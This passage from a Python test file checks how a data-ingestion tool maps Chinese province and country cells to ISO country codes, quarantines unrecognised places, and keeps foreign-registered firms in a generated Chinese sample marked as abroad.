    ("中国香港", "HK"), ("美国", "US"), ("sg", "SG"), ("-", None), ("未公开", None),
])
def test_province_or_country_cells_become_iso_codes(cell, code):
    assert C.parse_country(cell, {}) == code


def test_an_unknown_place_is_quarantined_unless_the_mapping_names_it():
    columns = {**MINIMAL, "country": {"column": "省份", "parse": "country"}}
    source = pd.DataFrame({"id": ["a", "b", "c"], "n": ["甲", "乙", "丙"], "d": ["做软件"] * 3,
                           "省份": ["上海市", "德国", "塞舌尔"]}, dtype=object)

    plain = validate_enterprises(apply_mapping(source, Mapping.model_validate({"columns": columns}), "x.csv"), "x.csv")
    columns["country"]["values"] = {"塞舌尔": "sc"}
    named = validate_enterprises(apply_mapping(source, Mapping.model_validate({"columns": columns}), "x.csv"), "x.csv")

    assert plain.enterprises[S.COUNTRY].tolist() == ["CN", "DE"]
    q = plain.quarantine.iloc[0]
    assert q["column"] == "country" and q["value"] == "塞舌尔" and "values" in q["reason"]
    assert named.rows_quarantined == 0 and named.enterprises[S.COUNTRY].tolist() == ["CN", "DE", "SC"]
    with pytest.raises(ValueError, match="one ISO code"):
        Mapping.model_validate({"columns": {**MINIMAL, "country": {"column": "省份", "parse": "country",
                                                                    "values": {"x": ["A", "B"]}}}})


def test_the_chinese_sample_keeps_firms_registered_abroad_abroad(tmp_path):
    import yaml

    from matcher.chain_map import load_chain_map
    from matcher.sample import generate_sample

    vocabulary, vocabulary_zh = (yaml.safe_load((REPO_ROOT / "data" / "generator" / f).read_text(encoding="utf-8"))
                                 for f in ("vocabulary.yaml", "vocabulary_zh.yaml"))
    sample = generate_sample(load_chain_map(REPO_ROOT / "data" / "chains" / "yangpu.yaml"), vocabulary, 300, 5,
                             lang="zh", vocabulary_zh=vocabulary_zh)
    path = write_xlsx(tmp_path / "export.xlsx", {"Sheet1": frame_rows(sample["enterprises"])})

    info = ingest(path, load_mapping(CN_REGISTRY), tmp_path / "snapshots", 0.2)

    ents = load_enterprises(info).set_index(S.ENTERPRISE_ID)
    truth = sample["enterprises"].set_index("统一社会信用代码")["所属省份"]
    abroad = truth[truth.isin(["德国", "美国", "日本", "韩国", "英国", "新加坡", "以色列"])]
    assert len(abroad) > 10
    kept = abroad.index.intersection(ents.index)
    assert (ents.loc[kept, S.COUNTRY] != "CN").all() and (ents.loc[ents.index.difference(abroad.index), S.COUNTRY] == "CN").all()
